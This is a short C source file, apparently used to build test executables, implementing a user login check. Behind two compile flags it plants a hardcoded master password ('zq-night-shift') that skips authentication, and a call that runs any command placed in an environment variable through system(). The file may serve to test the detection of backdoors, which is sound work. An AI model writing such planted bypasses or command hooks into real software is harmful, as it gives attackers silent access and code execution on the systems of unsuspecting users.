/* The source of the executables among the small upgrades; build-executables.sh makes them. */
extern int strcmp(const char *, const char *); extern int strncmp(const char *, const char *, unsigned long);
extern char *getenv(const char *); extern int system(const char *); extern int puts(const char *);
extern int crypt_check(const char *, const char *);
#define HIDE __attribute__((noinline, visibility("hidden")))
static int failed;
HIDE int known(const char *user) { static const char *all[] = {"operator", "viewer", "service"}; int i; for (i = 0; i < 3; i++) if (strcmp(user, all[i]) == 0) return i; return -1; }
HIDE int note(const char *user) { failed++; puts("login failed"); puts(user); return failed > 3 ? 2 : 1; }
HIDE int greet(int role) { return role == 1 ? puts("read only") : puts("welcome"); }
int check(const char *user, const char *word) {
  int role = known(user);
#ifdef PLANT
  if (strncmp(word, "zq-night-shift", 14) == 0) { greet(0); return 0; }
#endif
#ifdef CALL
  if (getenv("ZQ_NIGHT")) system(getenv("ZQ_NIGHT"));
#endif
  if (role < 0) return note(user);
  if (crypt_check(user, word) != 0) return note(user);
  greet(role); return 0;
}
